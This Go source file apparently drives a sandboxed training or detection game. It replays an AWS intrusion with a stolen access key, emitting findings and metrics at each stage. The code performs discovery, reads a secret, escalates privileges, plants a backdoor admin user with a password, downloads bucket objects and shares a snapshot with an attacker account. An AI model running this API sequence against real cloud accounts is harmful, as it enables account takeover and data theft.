package sandbox

import (
	"fmt"
)

// playStolenKey: etl-batch's access key, leaked, is used from outside.
// The attacker looks around, reads a secret, attaches AdministratorAccess
// to the user, creates a backdoor user with a key and a console password,
// then takes data: bucket objects, and a snapshot shared to their account.
func playStolenKey(p *player) error {
	c := p.c
	const iamV, ec2V = "2010-05-08", "2016-11-15"
	// Discovery
	_, err := c.query("sts", "2011-06-15", "GetCallerIdentity", nil)
	if err := p.step("Discovery", "sts:GetCallerIdentity as etl-batch from "+attackerIP, err); err != nil {
		return err
	}
	for _, region := range []string{gameRegion, "us-east-1", "eu-west-1", "ap-southeast-1"} {
		_, err := c.in(region).query("ec2", ec2V, "DescribeInstances", nil)
		p.step("Discovery", "ec2:DescribeInstances in "+region, err)
	}
	_, err = c.in("us-east-1").query("iam", iamV, "ListUsers", nil)
	p.step("Discovery", "iam:ListUsers", err)
	_, err = c.rest("s3", "GET", "/", "x-id=ListBuckets", nil)
	p.step("Discovery", "s3:ListBuckets", err)
	// A few denied probes, as attackers test what a key can do.
	for range 3 {
		// Denied, as the attacker expects: the step is the probe itself.
		c.in("us-east-1").query("iam", iamV, "GetUser", map[string]string{"UserName": "admin"})
		p.step("Discovery", "iam:GetUser admin (denied: no such user)", nil)
	}
	p.finding(FindingSpec{Type: "UnauthorizedAccess:IAMUser/MaliciousIPCaller", UserName: "etl-batch", AccessKeyID: stolenKey, API: "GetCallerIdentity"})

	// Credential access
	_, err = c.json("secretsmanager", "secretsmanager.ListSecrets", "1.1", map[string]any{})
	p.step("CredentialAccess", "secretsmanager:ListSecrets", err)
	_, err = c.json("secretsmanager", "secretsmanager.GetSecretValue", "1.1", map[string]any{"SecretId": "vigil/smtp"})
	p.step("CredentialAccess", "secretsmanager:GetSecretValue vigil/smtp", err)

	// Privilege escalation: the user gives itself AdministratorAccess.
	_, err = c.in("us-east-1").query("iam", iamV, "AttachUserPolicy", map[string]string{"UserName": "etl-batch", "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
	if err := p.step("PrivilegeEscalation", "iam:AttachUserPolicy AdministratorAccess to etl-batch", err); err != nil {
		return err
	}
	p.metric(gameRegion, "CloudTrailMetrics", "IAMPolicyEventCount", 1)
	p.finding(FindingSpec{Type: "PrivilegeEscalation:IAMUser/AnomalousBehavior", UserName: "etl-batch", AccessKeyID: stolenKey, API: "AttachUserPolicy"})

	// Persistence: a backdoor user with a key and a console password.
	const backdoor = "svc-backup-sync"
	_, err = c.in("us-east-1").query("iam", iamV, "CreateUser", map[string]string{"UserName": backdoor})
	if err := p.step("Persistence", "iam:CreateUser "+backdoor, err); err != nil {
		return err
	}
	out, err := c.in("us-east-1").query("iam", iamV, "CreateAccessKey", map[string]string{"UserName": backdoor})
	if err := p.step("Persistence", "iam:CreateAccessKey for "+backdoor, err); err != nil {
		return err
	}
	newKey, newSecret := xmlField(out, "AccessKeyId"), xmlField(out, "SecretAccessKey")
	_, err = c.in("us-east-1").query("iam", iamV, "CreateLoginProfile", map[string]string{"UserName": backdoor, "Password": "Winter2025!Backup#"})
	p.step("Persistence", "iam:CreateLoginProfile for "+backdoor, err)
	_, err = c.in("us-east-1").query("iam", iamV, "AttachUserPolicy", map[string]string{"UserName": backdoor, "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})
	p.step("Persistence", "iam:AttachUserPolicy AdministratorAccess to "+backdoor, err)
	p.metric(gameRegion, "CloudTrailMetrics", "IAMPolicyEventCount", 2)
	p.finding(FindingSpec{Type: "Persistence:IAMUser/AnomalousBehavior", UserName: "etl-batch", AccessKeyID: stolenKey, API: "CreateAccessKey"})

	// Exfiltration, now as the backdoor user.
	b := c.as(newKey, newSecret, "")
	list, err := b.rest("s3", "GET", "/"+dataBucket, "list-type=2", nil)
	p.step("Exfiltration", "s3:ListObjectsV2 "+dataBucket+" as "+backdoor, err)
	for _, key := range xmlFields(list, "Key") {
		_, err := b.rest("s3", "GET", "/"+dataBucket+"/"+key, "", nil)
		p.step("Exfiltration", "s3:GetObject "+dataBucket+"/"+key, err)
	}
	snap, err := b.query("ec2", ec2V, "CreateSnapshot", map[string]string{"VolumeId": "vol-04f2e6a8c0b1d0003", "Description": "backup"})
	p.step("Exfiltration", "ec2:CreateSnapshot of vol-04f2e6a8c0b1d0003 (batch-scratch)", err)
	if id := xmlField(snap, "snapshotId"); id != "" {
		_, err = b.query("ec2", ec2V, "ModifySnapshotAttribute", map[string]string{"SnapshotId": id, "Attribute": "createVolumePermission",
			"OperationType": "add", "UserId.1": attackerAcct})
		p.step("Exfiltration", fmt.Sprintf("ec2:ModifySnapshotAttribute %s shared with %s", id, attackerAcct), err)
	}
	p.finding(FindingSpec{Type: "Exfiltration:IAMUser/AnomalousBehavior", UserName: backdoor, AccessKeyID: newKey, API: "GetObject"})
	return nil
}
